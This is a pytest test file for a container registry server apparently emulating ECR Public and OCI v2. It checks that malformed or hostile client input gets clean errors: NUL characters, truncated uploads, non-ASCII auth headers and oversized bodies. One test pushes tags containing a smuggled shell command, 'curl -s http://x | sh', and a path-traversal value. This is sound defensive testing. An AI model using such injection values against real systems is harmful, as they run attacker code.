"""Input a careless or hostile client sends, found by probing berth from outside: NUL
characters (PostgreSQL cannot store them), a body cut off mid-upload, and the like. Each
gets an answer in the caller's protocol, the same on both backends, and changes nothing."""

from __future__ import annotations

import socket
from typing import Any
from urllib.parse import urlsplit

import pytest
import requests
from botocore.exceptions import ClientError

from conftest import Server
from support import images
from support.ecr import pull_headers, push_headers, push_image_via_api, put_manifest
from support.registry import error_codes

NUL_CALLS: list[tuple[str, dict[str, Any], str]] = [
    ("put_registry_catalog_data", {"displayName": "x\x00y"}, "displayName"),
    (
        "create_repository",
        {"repositoryName": "nul/app", "tags": [{"Key": "k\x00", "Value": "v"}]},
        "tags.1.member.Key",
    ),
    (
        "describe_images",
        {"repositoryName": "REPO", "imageIds": [{"imageTag": "x\x00"}]},
        "imageIds.1.member.imageTag",
    ),
    (
        "batch_delete_image",
        {"repositoryName": "REPO", "imageIds": [{"imageTag": "x\x00"}]},
        "imageIds.1.member.imageTag",
    ),
    (
        "put_repository_catalog_data",
        {"repositoryName": "REPO", "catalogData": {"description": "a\x00b"}},
        "catalogData.description",
    ),
]


@pytest.mark.parametrize(("operation", "params", "member"), NUL_CALLS)
def test_nul_in_a_string_member_is_invalid_parameter(
    server: Server, repository: str, operation: str, params: dict[str, Any], member: str
) -> None:
    ecr = server.ecr()
    before = ecr.describe_repositories()["repositories"]
    params = {k: repository if v == "REPO" else v for k, v in params.items()}
    with pytest.raises(ClientError) as caught:
        getattr(ecr, operation)(**params)
    error = caught.value.response["Error"]
    assert caught.value.response["ResponseMetadata"]["HTTPStatusCode"] == 400
    assert error["Code"] == "InvalidParameterException"
    assert error["Message"] == (
        f"Invalid parameter at '{member}' failed to satisfy constraint: "
        "'Member must not contain null characters'"
    )
    assert ecr.describe_repositories()["repositories"] == before


def test_nul_in_a_tag_resource_value(server: Server, repository: str) -> None:
    ecr = server.ecr()
    arn = ecr.describe_repositories(repositoryNames=[repository])["repositories"][0][
        "repositoryArn"
    ]
    with pytest.raises(ClientError) as caught:
        ecr.tag_resource(resourceArn=arn, tags=[{"Key": "k", "Value": "\x00"}])
    assert caught.value.response["Error"]["Code"] == "InvalidParameterException"
    assert ecr.list_tags_for_resource(resourceArn=arn)["tags"] == []


@pytest.mark.parametrize(
    "query", ["tags/list?last=%00", "tags/list?n=2&last=a%00b", "blobs/uploads/?mount=%00"]
)
def test_nul_in_a_v2_query_is_a_400(server: Server, repository: str, query: str) -> None:
    headers = push_headers(server, repository)
    method = "POST" if query.startswith("blobs") else "GET"
    response = requests.request(method, f"{server.v2(repository)}/{query}", headers=headers)
    assert response.status_code == 400
    assert error_codes(response) == ["UNSUPPORTED"]


def test_body_cut_off_mid_patch_keeps_the_session(server: Server, repository: str) -> None:
    """A client that dies mid-PATCH: the session stays where it was and can go on."""
    headers = push_headers(server, repository)
    started = requests.post(f"{server.v2(repository)}/blobs/uploads/", headers=headers)
    assert started.status_code == 202
    location = started.headers["Location"]
    url = urlsplit(server.url)
    with socket.create_connection((url.hostname, url.port)) as raw:
        raw.sendall(
            (
                f"PATCH {location} HTTP/1.1\r\nHost: {url.netloc}\r\n"
                f"Authorization: {headers['Authorization']}\r\n"
                "Content-Type: application/octet-stream\r\nContent-Length: 1000000\r\n\r\n"
            ).encode()
            + b"x" * 500_000
        )
    status = requests.get(f"{server.url}{location}", headers=headers)
    assert status.status_code == 204
    assert status.headers["Range"] == "0-0"
    data = b"whole body"
    patched = requests.patch(f"{server.url}{location}", data=data, headers=headers)
    assert patched.status_code == 202
    assert patched.headers["Range"] == f"0-{len(data) - 1}"
    log = server.log.read_text()
    assert "Error handling request" not in log


def test_tags_v2_cannot_address_are_left_out_of_tags_list(server: Server, repository: str) -> None:
    """PutImage takes any 1-300 characters as a tag (the model's rule); tags/list shows
    only the tags a client can then pull, so `skopeo sync` and friends never trip."""
    ecr = server.ecr()
    image = images.oci_image(7301, n_layers=1)
    push_image_via_api(ecr, repository, image, tag="v1")
    odd = ["latest && curl -s http://x | sh #", "sha256:" + "a" * 64, "a b", "../x", "-dash"]
    for tag in odd:
        put_manifest(ecr, repository, image.manifest, tag=tag, media_type=image.media_type)
    described = ecr.describe_image_tags(repositoryName=repository)["imageTagDetails"]
    assert {d["imageTag"] for d in described} == {"v1", *odd}
    listed = requests.get(
        f"{server.v2(repository)}/tags/list", headers=pull_headers(server, repository)
    )
    assert listed.status_code == 200
    assert listed.json()["tags"] == ["v1"]
    paged = requests.get(
        f"{server.v2(repository)}/tags/list?n=1", headers=pull_headers(server, repository)
    )
    assert paged.json()["tags"] == ["v1"]
    assert "Link" not in paged.headers


def _raw_request(server: Server, head: bytes, body: bytes = b"") -> tuple[int, bytes]:
    """Send bytes requests would never send (UTF-8 in a header); the status and body."""
    url = urlsplit(server.url)
    with socket.create_connection((url.hostname, url.port), timeout=30) as raw:
        raw.sendall(head + b"\r\nHost: " + url.netloc.encode() + b"\r\nConnection: close\r\n")
        raw.sendall(f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
        reply = b""
        while chunk := raw.recv(65536):
            reply += chunk
    status = int(reply.split(b" ", 2)[1])
    return status, reply.split(b"\r\n\r\n", 1)[1]


@pytest.mark.parametrize(
    "value", ["Basic é", "Bearer é", "Basic \udce9"], ids=["basic", "bearer", "latin1"]
)
@pytest.mark.parametrize(
    "path", ["/v2/", "/v2/{name}/tags/list", "/token?scope=repository:{name}:pull"]
)
def test_non_ascii_authorization_is_a_401(
    server: Server, repository: str, value: str, path: str
) -> None:
    name = f"{server.alias}/{repository}"
    header = value.encode("utf-8", "surrogateescape")
    status, body = _raw_request(
        server, f"GET {path.format(name=name)} HTTP/1.1\r\nAuthorization: ".encode() + header
    )
    if path.startswith("/token") and value.startswith("Bearer"):
        assert status == 200, body  # /token reads only Basic; anyone else is anonymous
        return
    assert status == 401, body
    assert b'"UNAUTHORIZED"' in body


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/x-www-form-urlencoded", b"\xff\xfe=%%%"),
        ("application/x-www-form-urlencoded; charset=bogus", b"a=b"),
        ("multipart/form-data", b"--x\r\n"),
        ("multipart/form-data; boundary=xx", b"garbage"),
    ],
)
def test_unreadable_token_form_is_a_400(server: Server, content_type: str, body: bytes) -> None:
    reply = requests.post(
        f"{server.url}/token", data=body, headers={"Content-Type": content_type}, timeout=30
    )
    assert reply.status_code in (400, 401), reply.text  # read, or refused for its content
    assert reply.headers["Content-Type"].startswith("application/json")
    assert "Error handling request" not in server.log.read_text()


def test_token_service_other_methods_are_json_405(server: Server) -> None:
    reply = requests.put(f"{server.url}/token", data=b"x", timeout=30)
    assert reply.status_code == 405
    assert error_codes(reply) == ["UNSUPPORTED"]


def test_chunked_api_body_over_the_limit_is_a_serialization_error(server: Server) -> None:
    """A body with no Content-Length can only be measured while read."""

    def chunks():  # type: ignore[no-untyped-def]
        piece = b" " * (1024 * 1024)
        for _ in range(40):
            yield piece

    reply = requests.post(
        server.url + "/",
        data=chunks(),
        headers={
            "X-Amz-Target": "SpencerFrontendService.DescribeRegistries",
            "Content-Type": "application/x-amz-json-1.1",
            "Authorization": "AWS4-HMAC-SHA256 Credential=AKIDX/20260101/us-east-1/ecr-public/"
            "aws4_request, SignedHeaders=host, Signature=" + "0" * 64,
            "X-Amz-Date": "20260101T000000Z",
        },
        timeout=60,
    )
    assert reply.status_code == 400, reply.text
    assert reply.json()["__type"] == "SerializationException"


def test_malformed_http_is_a_400_logged_in_one_line(server: Server) -> None:
    """A request line or header past aiohttp's limits: 400, and no traceback in the log."""
    long_query = requests.get(f"{server.url}/v2/?last={'a' * 9000}", timeout=30)
    long_header = requests.get(f"{server.url}/v2/", headers={"X-Big": "a" * 9000}, timeout=30)
    assert (long_query.status_code, long_header.status_code) == (400, 400)
    log = server.log.read_text()
    assert "refused a malformed request" in log
    assert "Traceback" not in log


@pytest.mark.parametrize("where", ["artifactType", "config", "layer"])
def test_nul_in_a_manifest_media_type_is_refused_on_both_faces(
    server: Server, repository: str, where: str
) -> None:
    """PostgreSQL's text cannot hold NUL and no media type has one: MANIFEST_INVALID on
    /v2 and InvalidParameterException on the API, never a 500."""
    import json

    image = images.oci_image(7302, n_layers=1)
    doc = json.loads(image.manifest)
    if where == "artifactType":
        doc["artifactType"] = "application/vnd.x\x00y"
    elif where == "config":
        doc["config"]["mediaType"] = "application/vnd.oci.image.config.v1+json\x00"
    else:
        doc["layers"][0]["mediaType"] = "application/vnd.oci.image.layer.v1.tar\x00"
    body = images.dump_json(doc)
    ecr = server.ecr()
    push_image_via_api(ecr, repository, image, tag="base")  # the blobs exist
    reply = requests.put(
        f"{server.v2(repository)}/manifests/nul",
        data=body,
        headers={**push_headers(server, repository), "Content-Type": images.OCI_MANIFEST},
    )
    assert reply.status_code == 400, reply.text
    assert error_codes(reply) == ["MANIFEST_INVALID"]
    with pytest.raises(ClientError) as caught:
        put_manifest(ecr, repository, body, tag="nul", media_type=images.OCI_MANIFEST)
    assert caught.value.response["Error"]["Code"] == "InvalidParameterException"
    assert caught.value.response["ResponseMetadata"]["HTTPStatusCode"] == 400
